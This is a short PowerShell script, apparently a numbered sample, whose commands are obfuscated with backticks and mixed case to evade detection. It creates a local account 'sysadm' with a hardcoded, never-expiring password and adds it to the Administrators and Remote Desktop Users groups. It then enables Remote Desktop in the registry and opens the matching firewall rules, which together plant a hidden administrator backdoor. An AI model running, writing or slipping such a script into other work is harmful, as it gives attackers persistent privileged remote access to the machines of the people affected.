# run 6387 v1
$pw = c`OnVeRtTo-`se`CureSTring 'Adm1n!strat0r' -ASPlaIntEXT -fORCE
ne`w-`l`Oca`LUSER -nAmE 'sysadm' -PaSsWoRd $pw -pasSwordneVEREXpiRES -ACCOUNtnEvEREXPIReS
ad`d-`LO`Ca`LGRouPmeMber -GrOuP 'Administrators' -meMbEr 'sysadm'
A`dd-`L`oCA`l`gR`oU`pMe`MbEr -GrOuP 'Remote Desktop Users' -meMbER 'sysadm'
seT-`itEm`pRoPeRt`Y -PaTh 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -name FDenYTsCoNnectIONs -value 0
eNAbLe-nETF`irE`wAlLrUlE -DiSpLaYgRoUp 'Remote Desktop'
